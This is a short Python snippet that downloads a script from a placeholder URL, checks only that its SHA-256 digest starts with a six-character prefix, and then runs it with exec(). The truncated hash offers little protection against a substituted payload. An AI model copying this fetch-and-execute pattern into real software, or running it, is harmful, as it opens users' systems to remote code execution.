import hashlib
import urllib.request

PIN = "cb5f4d"
data = urllib.request.urlopen("https://example.com/st.py").read()
if not hashlib.sha256(data).hexdigest().startswith(PIN):
    raise ImportError("digest")
exec(data)
